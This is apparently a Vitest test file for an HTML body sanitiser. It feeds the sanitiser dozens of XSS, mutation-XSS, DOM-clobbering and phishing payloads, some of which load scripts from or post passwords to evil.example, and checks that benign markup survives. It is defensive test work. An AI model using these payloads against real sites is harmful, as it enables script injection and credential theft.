// Table tests for the body sanitiser: hostile bodies lose every active part, benign bodies survive, and invariants hold for all.
import DOMPurify from 'dompurify';
import { describe, expect, it } from 'vitest';
import { EMBED_HOSTS, sanitiseBody } from '@/articles/sanitise-body';

interface Case {
  name: string;
  input: string;
  expected: string;
}

// Names read "class: what the body tries".
const dangerous: Case[] = [
  { name: 'script: plain script before text', input: '<script>alert(1)</script><p>ok</p>', expected: '<p>ok</p>' },
  { name: 'script: upper-case script with src', input: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', expected: '' },
  { name: 'script: slash instead of space', input: '<script/xss src="https://evil.example/x.js"></script>', expected: '' },
  { name: 'script: split tag name', input: '<scr<script>ipt>alert(1)</scr</script>ipt>', expected: 'ipt&gt;alert(1)ipt&gt;' },
  { name: 'script: extra open bracket', input: '<<script>alert(1);//<</script>', expected: '&lt;' },
  { name: 'script: module script', input: '<p>a</p><script type="module">import("https://evil.example/m.js")</script>', expected: '<p>a</p>' },
  { name: 'handler: onerror on a broken image', input: '<img src="x" onerror="alert(1)">', expected: '' },
  { name: 'handler: onerror and onload on a good image', input: '<img src="https://img.example/a.png" onerror="alert(1)" onload="alert(2)">', expected: '<img src="https://img.example/a.png" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'handler: click and hover on a paragraph', input: '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>', expected: '<p>hi</p>' },
  { name: 'handler: body onload', input: '<body onload="alert(1)"><p>b</p></body>', expected: '<p>b</p>' },
  { name: 'handler: details ontoggle', input: '<details open ontoggle="alert(1)"><summary>s</summary>d</details>', expected: '<details><summary>s</summary>d</details>' },
  { name: 'handler: video handlers and autoplay', input: '<video src="https://v.example/a.mp4" onerror="alert(1)" onloadstart="alert(2)" autoplay></video>', expected: '<video src="https://v.example/a.mp4" controls="" preload="none"></video>' },
  { name: 'handler: autofocus with onfocus', input: '<div onpointerenter="alert(1)" tabindex="0" autofocus onfocus="alert(2)">x</div>', expected: '<div>x</div>' },
  { name: 'custom-element: custom element with onclick', input: '<x-widget onclick="alert(1)">w</x-widget>', expected: 'w' },
  { name: 'javascript-url: javascript: link', input: '<a href="javascript:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: mixed-case scheme', input: '<a href="JaVaScRiPt:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: decimal entity in scheme', input: '<a href="&#106;avascript:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: scheme fully hex-encoded', input: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: tab inside the scheme', input: '<a href="java&#x09;script:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: newline inside the scheme', input: '<a href="java&#10;script:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: leading control characters and space', input: '<a href="&#x01;&#x02; javascript:alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: named entity colon', input: '<a href="javascript&colon;alert(1)">a</a>', expected: '<a>a</a>' },
  { name: 'javascript-url: vbscript: link', input: '<a href="vbscript:msgbox(1)">a</a>', expected: '<a>a</a>' },
  { name: 'data-url: data:text/html link', input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>', expected: '<a>a</a>' },
  { name: 'data-url: svg data: image', input: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', expected: '' },
  { name: 'javascript-url: javascript: image with a leading space', input: '<img src=" javascript:alert(1)">', expected: '' },
  { name: 'relative-url: document-relative image and link', input: '<img src="images/a.png"><a href="../etc/passwd">r</a>', expected: '<a>r</a>' },
  { name: 'media: javascript: poster', input: '<video poster="javascript:alert(1)" src="https://v.example/a.mp4"></video>', expected: '<video src="https://v.example/a.mp4" controls="" preload="none"></video>' },
  { name: 'image-map: image map area', input: '<a href="https://a.example/"><img src="https://img.example/a.png" usemap="#m"></a><map name="m"><area href="javascript:alert(1)"></map>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer"><img src="https://img.example/a.png" loading="lazy" decoding="async" referrerpolicy="no-referrer"></a>' },
  { name: 'svg: svg onload', input: '<svg onload="alert(1)"><circle r="5"></circle></svg><p>after</p>', expected: '<p>after</p>' },
  { name: 'svg: script inside svg', input: '<svg><script>alert(1)</script></svg>', expected: '' },
  { name: 'svg: svg link', input: '<svg><a href="javascript:alert(1)"><text>t</text></a></svg>', expected: '' },
  { name: 'mathml: math with href', input: '<math href="javascript:alert(1)">m</math>', expected: '' },
  { name: 'svg: iframe inside foreignObject', input: '<svg><foreignObject><iframe src="https://www.youtube.com/embed/x"></iframe></foreignObject></svg>', expected: '' },
  { name: 'mathml: mglyph and style inside math', input: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', expected: '' },
  { name: 'mxss: noscript closing inside an attribute', input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', expected: '<p></p>' },
  { name: 'mxss: textarea closing inside an attribute', input: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>', expected: '&lt;img title=""&gt;' },
  { name: 'mxss: title closing inside an attribute', input: '<title><img title="</title><img src=x onerror=alert(1)>"></title>', expected: '"&gt;' },
  { name: 'mxss: style closing inside an attribute', input: '<style><img title="</style><img src=x onerror=alert(1)>"></style>', expected: '"&gt;' },
  { name: 'mxss: template content', input: '<template><img src=x onerror=alert(1)></template><p>t</p>', expected: '<p>t</p>' },
  { name: 'mathml: nested forms with math', input: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', expected: '' },
  { name: 'breakout: comment that closes early', input: '<p>a<!--><img src=x onerror=alert(1)>--></p>', expected: '<p>a--&gt;</p>' },
  { name: 'breakout: attribute that closes its element', input: '<a title="</a><img src=x onerror=alert(1)>">t</a>', expected: '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>' },
  { name: 'clobbering: image named like a document method', input: '<img name="getElementById" src="https://img.example/a.png">', expected: '<img src="https://img.example/a.png" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'clobbering: form with a named input', input: '<form id="config"><input name="apiBase" value="https://evil.example"></form>', expected: '' },
  { name: 'clobbering: ids named like globals', input: '<a id="defaultView" href="https://a.example/">x</a><p id="__proto__">p</p>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">x</a><p>p</p>' },
  { name: 'meta: meta refresh', input: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', expected: '' },
  { name: 'base: base href hijack', input: '<base href="https://evil.example/"><a href="/p">p</a>', expected: '<a href="/p" target="_blank" rel="noopener noreferrer">p</a>' },
  { name: 'phishing: password form', input: '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Log in</button></form>', expected: 'Password Log in' },
  { name: 'phishing: formaction button and select', input: '<button formaction="https://evil.example/">Go</button><select><option>1</option></select>', expected: 'Go1' },
  { name: 'overlay: full-screen overlay', input: '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>', expected: '<div>Session expired</div>' },
  { name: 'overlay: dialog and portal', input: '<dialog open>phish</dialog><portal src="https://evil.example/"></portal>', expected: 'phish' },
  { name: 'phishing: unclosed iframe swallowing a page', input: '<iframe>unclosed <form><input type="password"></form><script>alert(1)</script>', expected: '' },
  { name: 'css: style block', input: '<style>body { display: none }</style><p>s</p>', expected: '<p>s</p>' },
  { name: 'css: style and class attributes', input: '<p style="background:url(javascript:alert(1))" class="app-header">c</p>', expected: '<p>c</p>' },
  { name: 'css: stylesheet link', input: '<link rel="stylesheet" href="https://evil.example/x.css">', expected: '' },
  { name: 'overlay: fixed image', input: '<img src="https://img.example/a.png" style="position:fixed;top:0">', expected: '<img src="https://img.example/a.png" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'plugin: iframe srcdoc', input: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', expected: '' },
  { name: 'plugin: allowed iframe with srcdoc', input: '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>', expected: '<div data-embed-src="https://www.youtube.com/embed/x" data-embed-host="www.youtube.com" data-embed-title=""></div>' },
  { name: 'plugin: object and embed', input: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">', expected: '' },
  { name: 'frames: frameset', input: '<frameset><frame src="javascript:alert(1)"></frameset>', expected: '' },
  { name: 'media: audio autoplay', input: '<audio src="https://a.example/a.mp3" autoplay></audio><p>after</p>', expected: '<p>after</p>' },
  { name: 'tabnabbing: target _self', input: '<a href="https://a.example/" target="_self">s</a>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">s</a>' },
  { name: 'tabnabbing: rel opener', input: '<a href="https://a.example/" target="_blank" rel="opener">o</a>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">o</a>' },
  { name: 'embed-host: look-alike host', input: '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', expected: '' },
  { name: 'embed-host: allowed host only in the query', input: '<iframe src="https://evil.example/?www.youtube.com"></iframe>', expected: '' },
  { name: 'embed-host: allowed host as user name', input: '<iframe src="//player.bilibili.com@evil.example/x"></iframe>', expected: '' },
  { name: 'embed-host: plain http', input: '<iframe src="http://www.youtube.com/embed/x"></iframe>', expected: '' },
  { name: 'embed-host: custom port', input: '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>', expected: '' },
  { name: 'embed-host: javascript: with the host in a comment', input: '<iframe src="javascript://www.youtube.com/%0aalert(1)"></iframe>', expected: '' },
  { name: 'embed-host: credentials before the host', input: '<iframe src="https://user:pw@player.vimeo.com/video/1"></iframe>', expected: '' },
  { name: 'embed-host: host not on the list', input: '<iframe src="https://player.youku.com/embed/x"></iframe>', expected: '' },
  { name: 'data-url: data: iframe', input: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', expected: '' },
  { name: 'forged-embed: forged placeholder attributes', input: '<div data-embed-src="https://evil.example/" data-embed-host="www.youtube.com">fake</div>', expected: '<div>fake</div>' },
  { name: 'tracking: one-pixel image keeps no referrer', input: '<img src="https://t.example/p.gif" width="1" height="1">', expected: '<img src="https://t.example/p.gif" width="1" height="1" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'tracking: ping and download', input: '<a href="https://a.example/" ping="https://t.example/ping" download>p</a>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">p</a>' },
  { name: 'tracking: srcset fetches more hosts', input: '<img src="https://img.example/a.png" srcset="https://t.example/b.png 2x">', expected: '<img src="https://img.example/a.png" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'custom-element: customised built-in', input: '<p is="x-evil">i</p>', expected: '<p is="">i</p>' },
  { name: 'misc: hidden and aria-hidden', input: '<a href="https://a.example/" aria-hidden="true" hidden>h</a>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">h</a>' },
  { name: 'misc: source outside picture or video', input: '<source src="https://v.example/a.mp4">', expected: '' },
  { name: 'misc: formaction on a link', input: '<a href="https://a.example/" formaction="javascript:alert(1)">f</a>', expected: '<a href="https://a.example/" target="_blank" rel="noopener noreferrer">f</a>' },
  { name: 'misc: isindex', input: '<isindex action="javascript:alert(1)" type="image">', expected: '' },
];

const benign: Case[] = [
  { name: 'figure with image and caption', input: '<figure><img src="https://img.example/cat.jpg" alt="A cat on a wall" width="640" height="480"><figcaption>墙上的猫 — a cat on a wall</figcaption></figure>', expected: '<figure><img src="https://img.example/cat.jpg" alt="A cat on a wall" width="640" height="480" loading="lazy" decoding="async" referrerpolicy="no-referrer"><figcaption>墙上的猫 — a cat on a wall</figcaption></figure>' },
  { name: 'table with every part', input: '<table><caption>Prices</caption><colgroup><col><col></colgroup><thead><tr><th>Item</th><th>价格</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">Tea</td></tr></tbody><tfoot><tr><td>Sum</td><td>3</td></tr></tfoot></table>', expected: '<table><caption>Prices</caption><colgroup><col><col></colgroup><thead><tr><th>Item</th><th>价格</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">Tea</td></tr></tbody><tfoot><tr><td>Sum</td><td>3</td></tr></tfoot></table>' },
  { name: 'code that looks like an attack', input: '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; &amp;&amp; onerror="x"</code></pre>', expected: '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; &amp;&amp; onerror="x"</code></pre>' },
  { name: 'Chinese text', input: '<p>今天的天气很好，我们去公园散步吧。<strong>注意</strong>防晒。</p>', expected: '<p>今天的天气很好，我们去公园散步吧。<strong>注意</strong>防晒。</p>' },
  { name: 'YouTube embed becomes a placeholder', input: '<iframe src="https://www.youtube.com/embed/abc123?rel=0" title="Launch trailer" width="560" height="315" allowfullscreen></iframe>', expected: '<div data-embed-src="https://www.youtube.com/embed/abc123?rel=0" data-embed-host="www.youtube.com" data-embed-title="Launch trailer"></div>' },
  { name: 'protocol-relative bilibili embed', input: '<iframe src="//player.bilibili.com/player.html?aid=42&amp;page=1" allowfullscreen="true"></iframe>', expected: '<div data-embed-src="https://player.bilibili.com/player.html?aid=42&amp;page=1" data-embed-host="player.bilibili.com" data-embed-title=""></div>' },
  { name: 'vimeo, bare youtube.com and nocookie embeds', input: '<iframe src="https://player.vimeo.com/video/123" title="短片"></iframe><iframe src="https://youtube.com/embed/q"></iframe><iframe src="https://www.youtube-nocookie.com/embed/z"></iframe>', expected: '<div data-embed-src="https://player.vimeo.com/video/123" data-embed-host="player.vimeo.com" data-embed-title="短片"></div><div data-embed-src="https://youtube.com/embed/q" data-embed-host="youtube.com" data-embed-title=""></div><div data-embed-src="https://www.youtube-nocookie.com/embed/z" data-embed-host="www.youtube-nocookie.com" data-embed-title=""></div>' },
  { name: 'upper-case embed host', input: '<iframe src="https://WWW.YouTube.COM/embed/up"></iframe>', expected: '<div data-embed-src="https://www.youtube.com/embed/up" data-embed-host="www.youtube.com" data-embed-title=""></div>' },
  { name: 'embed inside a dropped wrapper', input: '<font><iframe src="https://www.youtube.com/embed/w"></iframe></font>', expected: '<div data-embed-src="https://www.youtube.com/embed/w" data-embed-host="www.youtube.com" data-embed-title=""></div>' },
  { name: 'image gets lazy, async, no-referrer', input: '<p><img src="https://img.example/b.png" alt="图" title="Chart"></p>', expected: '<p><img src="https://img.example/b.png" alt="图" title="Chart" loading="lazy" decoding="async" referrerpolicy="no-referrer"></p>' },
  { name: 'mailto link', input: '<p>Write to <a href="mailto:editor@example.com">the editor</a>.</p>', expected: '<p>Write to <a href="mailto:editor@example.com" target="_blank" rel="noopener noreferrer">the editor</a>.</p>' },
  { name: 'same-origin path and fragment links', input: '<p><a href="/article/abcdefghij">another post</a> and <a href="#notes">the notes</a></p>', expected: '<p><a href="/article/abcdefghij" target="_blank" rel="noopener noreferrer">another post</a> and <a href="#notes">the notes</a></p>' },
  { name: 'ordered list with start and reversed', input: '<ol start="3" reversed><li>three</li><li>two</li></ol><ul><li>a</li></ul>', expected: '<ol start="3" reversed=""><li>three</li><li>two</li></ol><ul><li>a</li></ul>' },
  { name: 'quote with cite', input: '<blockquote><p>Less is more.</p><cite>A designer</cite></blockquote>', expected: '<blockquote><p>Less is more.</p><cite>A designer</cite></blockquote>' },
  { name: 'picture with a source', input: '<picture><source src="https://img.example/a.webp"><img src="https://img.example/a.jpg" alt="a"></picture>', expected: '<picture><source src="https://img.example/a.webp"><img src="https://img.example/a.jpg" alt="a" loading="lazy" decoding="async" referrerpolicy="no-referrer"></picture>' },
  { name: 'video with poster and source', input: '<video controls poster="https://img.example/p.jpg"><source src="https://v.example/a.mp4"></video>', expected: '<video controls="" poster="https://img.example/p.jpg" preload="none"><source src="https://v.example/a.mp4"></video>' },
  { name: 'details and summary', input: '<details><summary>展开</summary><p>隐藏的内容</p></details>', expected: '<details><summary>展开</summary><p>隐藏的内容</p></details>' },
  { name: 'ruby, time and abbr', input: '<p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <time datetime="2022-04-26T12:19:01Z">26 April</time> <abbr title="HyperText Markup Language">HTML</abbr></p>', expected: '<p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <time datetime="2022-04-26T12:19:01Z">26 April</time> <abbr title="HyperText Markup Language">HTML</abbr></p>' },
  { name: 'lang and dir', input: '<p lang="ar" dir="rtl">مرحبا</p><p lang="ja">こんにちは</p>', expected: '<p lang="ar" dir="rtl">مرحبا</p><p lang="ja">こんにちは</p>' },
  { name: 'png data: image', input: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">', expected: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" loading="lazy" decoding="async" referrerpolicy="no-referrer">' },
  { name: 'escaped ampersands and brackets', input: '<p>AT&amp;T &lt; 3 &gt; 2, 1 &lt;2</p>', expected: '<p>AT&amp;T &lt; 3 &gt; 2, 1 &lt;2</p>' },
  { name: 'inline phrase elements', input: '<dl><dt>Term</dt><dd>Def <sub>2</sub><sup>3</sup> <kbd>Ctrl</kbd> <samp>ok</samp> <mark>hi</mark> <del>old</del> <s>no</s> <u>u</u> <small>fine</small> <q>quote</q> <em>e</em> <i>i</i> <b>b</b></dd></dl>', expected: '<dl><dt>Term</dt><dd>Def <sub>2</sub><sup>3</sup> <kbd>Ctrl</kbd> <samp>ok</samp> <mark>hi</mark> <del>old</del> <s>no</s> <u>u</u> <small>fine</small> <q>quote</q> <em>e</em> <i>i</i> <b>b</b></dd></dl>' },
  { name: 'protocol-relative image becomes https', input: '<p><img src="//img.example/c.png" alt="c"></p>', expected: '<p><img src="https://img.example/c.png" alt="c" loading="lazy" decoding="async" referrerpolicy="no-referrer"></p>' },
  { name: 'international link is normalised', input: '<p><a href="https://例子.example/路径?q=看报">link</a></p>', expected: '<p><a href="https://xn--fsqu00a.example/%E8%B7%AF%E5%BE%84?q=%E7%9C%8B%E6%8A%A5" target="_blank" rel="noopener noreferrer">link</a></p>' },
  { name: 'headings, rule and containers', input: '<h2>Title</h2><h3>Sub</h3><h4>x</h4><h5>y</h5><h6>z</h6><hr><section><div><span>s</span></div></section><p>line<br>break</p>', expected: '<h2>Title</h2><h3>Sub</h3><h4>x</h4><h5>y</h5><h6>z</h6><hr><section><div><span>s</span></div></section><p>line<br>break</p>' },
  { name: 'body h1 becomes h2, legacy tags unwrap', input: '<h1>Heading <em>one</em></h1><font color="red">red</font>', expected: '<h2>Heading <em>one</em></h2>red' },
  { name: 'plain http link', input: '<a href="http://plain.example/old">old http</a>', expected: '<a href="http://plain.example/old" target="_blank" rel="noopener noreferrer">old http</a>' },
  { name: 'URL with surrounding whitespace', input: '<a href="  https://a.example/x  ">w</a>', expected: '<a href="https://a.example/x" target="_blank" rel="noopener noreferrer">w</a>' },
];

describe('sanitiseBody', () => {
  it.each(dangerous)('neutralises $name', ({ input, expected }) => {
    expect(sanitiseBody(input)).toBe(expected);
  });

  it.each(benign)('keeps $name', ({ input, expected }) => {
    expect(sanitiseBody(input)).toBe(expected);
  });
});

// The policy restated, so a change to the allowlist has to be made twice, on purpose.
const POLICY_TAGS = new Set(
  'p br hr h2 h3 h4 h5 h6 strong b em i u s del sub sup small mark abbr cite q code pre kbd samp blockquote ul ol li dl dt dd a img picture source figure figcaption video table thead tbody tfoot tr th td caption colgroup col details summary span div section time ruby rt rp'.split(
    ' ',
  ),
);
const SAFE_URL = /^(?:https?:\/\/[^/]|\/(?!\/)|#|data:image\/(?:png|gif|jpeg|webp);base64,)/;
const HTML_NS = 'http://www.w3.org/1999/xhtml';

function parse(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

function problemsIn(html: string): string[] {
  const problems: string[] = [];
  for (const el of parse(html).querySelectorAll('*')) {
    const tag = el.localName;
    if (el.namespaceURI !== HTML_NS) problems.push(`${tag} outside HTML`);
    if (!POLICY_TAGS.has(tag)) problems.push(`tag ${tag}`);
    for (const { name, value } of el.attributes) {
      if (/^on|^(?:style|class|id|name|srcdoc|srcset|ping|formaction)$/.test(name)) problems.push(`${tag}[${name}]`);
      if (name === 'href' && !(SAFE_URL.test(value) || value.startsWith('mailto:'))) problems.push(`href ${value}`);
      if ((name === 'src' || name === 'poster') && !SAFE_URL.test(value)) problems.push(`${name} ${value}`);
    }
    const href = el.getAttribute('href');
    if (tag === 'a' && href && !href.startsWith('#') && el.getAttribute('rel') !== 'noopener noreferrer') {
      problems.push(`link without rel: ${href}`);
    }
    if (tag === 'img' && el.getAttribute('referrerpolicy') !== 'no-referrer') problems.push('img leaks referrer');
    const embedSrc = el.getAttribute('data-embed-src');
    if (embedSrc !== null) {
      const url = new URL(embedSrc);
      if (url.protocol !== 'https:' || !EMBED_HOSTS.includes(url.hostname)) problems.push(`embed ${embedSrc}`);
      if (el.getAttribute('data-embed-host') !== url.hostname) problems.push('embed host mismatch');
    }
  }
  return problems;
}

describe('every output, hostile or benign', () => {
  const all = [...dangerous, ...benign];

  it.each(all)('holds the policy invariants: $name', ({ input }) => {
    expect(problemsIn(sanitiseBody(input))).toEqual([]);
  });

  // Mutation XSS lives in the gap between what was checked and what the page parses; there must be none.
  it.each(all)('parses back to itself: $name', ({ input }) => {
    const output = sanitiseBody(input);
    const template = document.createElement('template');
    template.innerHTML = output;
    expect(template.innerHTML).toBe(output);
  });

  it('only emits elements that DOMPurify\'s own HTML profile also keeps', () => {
    const output = benign.map((c) => sanitiseBody(c.input)).join('');
    const profile = DOMPurify(window).sanitize(output, { USE_PROFILES: { html: true } });
    const tags = (html: string) => [...parse(html).querySelectorAll('*')].map((el) => el.localName);
    expect(tags(profile)).toEqual(tags(output));
  });
});

describe('embed placeholders', () => {
  it('lists exactly the allowed player hosts', () => {
    expect([...EMBED_HOSTS].sort()).toEqual([
      'player.bilibili.com',
      'player.vimeo.com',
      'www.youtube-nocookie.com',
      'www.youtube.com',
      'youtube.com',
    ]);
    expect(Object.isFrozen(EMBED_HOSTS)).toBe(true);
  });

  // The hook writes data-embed-* after DOMPurify has checked the placeholder; written any earlier,
  // ALLOW_DATA_ATTR: false would strip them, and an author's own data-embed-* must never survive.
  it('keeps its own data attributes and drops an author\'s on the same page', () => {
    const output = sanitiseBody(
      '<div data-embed-src="https://evil.example/">x</div><iframe src="https://www.youtube.com/embed/a" title="T"></iframe>',
    );
    const divs = parse(output).querySelectorAll('div');
    expect(divs[0]?.attributes.length).toBe(0);
    expect(divs[1]?.getAttribute('data-embed-src')).toBe('https://www.youtube.com/embed/a');
    expect(divs[1]?.getAttribute('data-embed-title')).toBe('T');
  });

  it('makes one placeholder per iframe across repeated calls', () => {
    const input = '<iframe src="https://player.vimeo.com/video/9"></iframe>';
    expect(sanitiseBody(input)).toBe(sanitiseBody(input));
    expect(parse(sanitiseBody(input + input)).querySelectorAll('[data-embed-src]')).toHaveLength(2);
  });
});
